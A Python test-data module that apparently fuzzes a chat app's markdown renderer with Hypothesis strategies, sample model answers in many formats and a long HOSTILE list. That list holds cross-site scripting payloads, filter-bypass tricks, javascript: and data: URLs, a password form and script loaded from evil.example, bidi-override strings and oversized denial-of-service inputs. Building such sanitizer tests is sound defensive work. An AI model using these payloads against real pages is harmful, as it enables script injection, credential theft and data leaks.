"""Markdown of every kind: drawn at random, as models write it, and as attackers do."""

from hypothesis import strategies as st

from chat.rendering import blocks

MARKS = [
    *("\n", "\n", "\n\n", "\n\n", " ", "  ", "   ", "    ", "\t", "a", "b", "word ", "中文。"),
    *("# ", "## ", "- ", "-", "--", "---", "===", "* ", "***", "+ ", "1. ", "2. ", "10. ", "1) "),
    *("> ", ">", "```", "```py", "~~~", "````", "`", "**", "*", "_", "~~", "- [x] ", "[ ]"),
    *("<b>", "<div>", "</div>", "<b x='1'>", "<script>", "</script>", "<!--", "-->", "<?", "?>"),
    *("<pre>", "</pre>", "<![CDATA[", "]]>", "<think>", "</think>", '<a href="x', "<", "&lt;"),
    *("|", "|a|b|", "|-|-|", "a|b\n-|-\n", "$", "$$", "\\(", "\\)", "\\[", "\\]", "\\", "$x$"),
    *("[x]", "![a](http://x.y/z)", "[a](http://x.y)", "[a](javascript:x)", "http://a.bc"),
    *("- a\n", "  b\n", "1. a\n", "   ```\n", "```\n", "    c\n", "- - -", "\r\n", "\u202e"),
]
_INDENTS = [*[""] * 6, " ", "  ", "   ", "    ", "     ", "\t", " \t"]
_CONTAINERS = [
    *("", "", "", "- ", "* ", "1. ", "2. ", "10. ", "> ", ">", "-", "1.", "-\t", "-      "),
    *("- - ", "> - ", "- > ", "1) ", "100. "),
]
_CONTENTS = [
    *("a", "b *c*", "```", "~~~", "````", "```py", "~~~ x", "<b>", "<b x='1'>", "<div>", "<p"),
    *("<!--", "-->", "<script>", "</script>", "# h", "---", "***", "- - -", "===", "|a|b|"),
    *("|-|-|", "a|b", "-|-", "", "text", "```` x", "<?", "?>", "[x]", "$$", "a  ", "`", "\\"),
]
DEFINITIONS = "[x]: http://e.x/y 't\"&amp;'\n[Y z]: <http://e.x/z>\n\n"

_lines = st.builds(
    "{}{}{}".format,
    st.sampled_from(_INDENTS),
    st.sampled_from(_CONTAINERS),
    st.sampled_from([*_CONTENTS, "[a][y  Z]", "![X]"]),
)
_structured = st.lists(_lines | st.just(""), max_size=20).map("\n".join)
_scrambled = st.lists(st.sampled_from(MARKS), max_size=50).map("".join)
_anything = st.text(max_size=60)

markdown = _structured | _scrambled | _anything
chunk_sizes = st.lists(st.integers(1, 40), min_size=1, max_size=30)


def as_kept(text: str) -> str:
    """The text as a document keeps it: one kind of line ending, nothing that cannot be stored."""
    document = blocks.Document()
    document.feed(text)
    return document.text


def chunks(text: str, sizes: list[int]) -> list[str]:
    """`text` cut into pieces of these sizes, over and over."""
    pieces, start, turn = [], 0, 0
    while start < len(text):
        pieces.append(text[start : start + sizes[turn % len(sizes)]])
        start += sizes[turn % len(sizes)]
        turn += 1
    return pieces


ANSWERS = {
    "recipe": (
        "## 番茄炒蛋\n\n**材料**：鸡蛋 3 个、番茄 2 个。\n\n1. 打散鸡蛋，加少许*盐*。\n"
        "2. 热锅，炒至**八成熟**盛出。\n   - 火不要太大\n   - 油要热\n\n"
        "3. 番茄切块，炒出汁，倒回鸡蛋。\n\n> 小贴士：加一点糖提鲜。\n继续这一行。\n\n"
        "祝好胃口！"
    ),
    "code": (
        "Sure! Here is a function:\n```python\ndef add(a: int, b: int) -> int:\n"
        '    """Add <b>two</b> numbers."""\n\n    return a + b  # & done\n```\n'
        "It works because:\n- it is *simple*\n- it is `tested`\n\n```\nplain\n\n  text\n"
        "```\n\nBye."
    ),
    "table": (
        "Comparison:\n\n| Model | Price | Notes |\n|:------|------:|:-----:|\n"
        "| a `x\\|y` | $5 | **good** |\n| b | $10 | [site](https://example.com) |\n\n"
        "---\n\nThat's all."
    ),
    "math": (
        "Euler: $e^{i\\pi} + 1 = 0$ and \\(a^2+b^2=c^2\\).\n\n$$\n"
        "\\int_0^1 x^2 \\, dx = \\frac{1}{3}\n$$\n\n\\[\n"
        "\\sum_{n=1}^\\infty \\frac{1}{n^2}\n\\]\n\nIt costs $5 and $10, or $5-$10.\n"
    ),
    "steps": (
        "### Install\n\n1. **Download** it:\n\n   ```bash\n"
        "   curl -O https://example.com/x.tgz\n   ```\n\n2. **Unpack**:\n   ```bash\n"
        "   tar xf x.tgz\n   ```\n3. Run it.\n\n\n* [x] done\n* [ ] open\n  continued\n\n"
        "See <https://example.com> or www.example.com, mail me@example.com."
    ),
    "think": (
        "<think>\nThe user asks\n\nabout x.\n</think>\n\nThe **answer** is 42.\n\nSetext\n"
        "===\n\nmore\n---\nend"
    ),
    "images": (
        "![A cat](https://cats.example/cat.png 'Cat')\n\n"
        "[![badge](https://b.example/b.svg)](https://b.example)\n"
    ),
    "sloppy": (
        "- Step:\n  ```bash\nnpm install\n  ```\n- Next\ntext\n  ```\n  x\n  ```\n\n"
        "After.\n\n1. a\n\n\n2. b\n- c\n"
    ),
    "references": (DEFINITIONS + "See [x], [the page][y z] and ![x].\n\n- [x]\n\n> [Y Z]\n"),
    "html": (
        "<details>\n<summary>More</summary>\n\n*hidden*\n\n</details>\n\n<!-- note\n\n"
        "still -->\ntext <br> more\n"
    ),
}

_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "vbscript:x",
    "//evil.example/x",
    "/logout",
    "\\\\evil.example\\x",
    "file:///etc/passwd",
    "blob:https://x/y",
    'https://x.y/" onclick="alert(1)',
    "https://x.y/' onclick='alert(1)",
    "https://x.y/><script>",
    "http:evil",
    "https://[",
    "https://x.y/%0aalert",
    "ht\ntps://x.y",
    " javascript:alert(1)",
    "\u0001javascript:alert(1)",
    "javascript&colon;alert(1)",
    "feed:javascript:alert(1)",
    "about:blank",
]
_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input name=password></form>",
    "<button form=composer name=action value=stop>x</button>",
    "<input type=checkbox onclick=alert(1)>",
    "<object data=x>",
    "<embed src=x>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x autoplay>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<div id=composer class=bubble>",
    "<div style=position:fixed;inset:0>x</div>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<hx-partial hx-target=body>x</hx-partial>",
    "<div hx-get=/x hx-trigger=load>",
    "<p hx-ws:send>",
    "<select><option>x",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<x onclick=alert(1)>",
    "</div></article></main><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><style><img src=x>",
    "<table><td><script>alert(1)</script>",
    "<p\nonclick=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<\0script>alert(1)</script>",
]
_REST = [
    '```"><script>alert(1)</script>\nx\n```',
    "```js onclick=alert(1)\nx\n```",
    "~~~</code></pre><script>\nx\n~~~",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```" data-grow class="copy\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "```python\n\u202e print('x') \u2066\n```",
    "```math\n\\href{javascript:alert(1)}{x}\n```",
    "\u202egnp.exe\u202c",
    "&#x202e;abc",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\style{x:y}{z}$$",
    "\\(</math><script>alert(1)</script>\\)",
    "$\\color{red;background:url(x)}{a}$",
    "$\\unicode{x3c}script$",
    "$" + "{" * 500 + "$",
    "$$" + "\\left(" * 300 + "$$",
    "![x](https://t.example/p.gif?secret)",
    "![<script>](https://x.y/z)",
    '!["onerror="alert(1)](https://x.y/z)',
    "[![a](https://x.y/a)![b](javascript:x)](https://x.y)",
    "[a](https://x.y \"t' onclick='x\")",
    "[a](https://x.y 't\" onclick=\"x')",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: data:text/html,x\n\n![x]",
    "<javascript:alert(1)>",
    '<https://x.y/?a=<b>&"c>',
    'https://x.y/"onmouseover=alert(1)',
    "www.x.y/<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "| <script> | x |\n|-|-|\n| <img src=x onerror=a> | `<b>` |",
    "- <script>\n- </script>",
    "> <script>\n> alert(1)",
    "# <img src=x onerror=alert(1)>",
    "1. ```\n   <script>\n",
    "- [x] <input autofocus onfocus=alert(1)>",
    "**<b>*</b>**",
    "[a](<javascript:alert(1)>)",
    "[a]( javascript:alert(1))",
    '<a@b.c"onclick=x>',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "---\ntitle: <script>\n---",
    ":::warning\n<script>\n:::",
    "[[https://x.y|<b>]]",
    "==<mark>==",
    "||<s>||",
    "a\0b\0<\0script>",
    "\ud83d \udc00 <b>",
    "\x1b[31m<b>\x07\x08",
    "\u2028<script>\u2029alert(1)",
    "\ufeff<script>alert(1)</script>",
    '<a href="https://x.y">\n\n**x**\n\n</a>',
    ">" * 3000 + " <script>",
    "- " * 3000 + "<script>",
    "[" * 5000,
    "*" * 5000 + "a" + "*" * 5000,
    "`" * 10_000,
    "<" * 5000,
    "\\(" * 2000,
    "|a" * 300 + "\n" + "|-" * 300 + "\n" + "x\n" * 300,
    "&" * 3000,
    "![" * 3000,
    "[a](" * 3000,
    "$" * 5000,
    "~" * 5000,
    "_a" * 5000,
]
HOSTILE = [
    *(f"[a]({address})" for address in _ADDRESSES),
    *(f"![a]({address})" for address in _ADDRESSES),
    *_TAGS,
    *_REST,
]
